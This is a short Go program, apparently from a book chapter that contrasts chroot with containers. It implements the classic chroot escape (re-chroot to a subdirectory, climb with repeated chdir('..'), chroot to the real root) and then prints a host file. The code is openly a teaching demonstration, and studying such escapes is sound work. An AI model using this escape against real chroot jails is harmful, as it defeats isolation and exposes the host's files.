// Command escape leaves the root directory that chroot(2) gave it, in the way that manual page describes, and prints a file of
// the host's. Chapter 03 runs it in a chroot, where it succeeds, and in a container, where it doesn't.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: escape FILE")
		os.Exit(2)
	}
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	text, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	os.Stdout.Write(text)
}

func escape() error {
	// The root moves down to /tmp, and the working directory stays where it is: above the root.
	if err := unix.Chroot("tmp"); err != nil {
		return fmt.Errorf("changing the root to tmp: %w", err)
	}
	// On the way up, ".." stops at the root. We have passed it, so nothing stops us before the topmost directory there is.
	for range 100 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("going up: %w", err)
		}
	}
	return unix.Chroot(".") // which is the root now
}
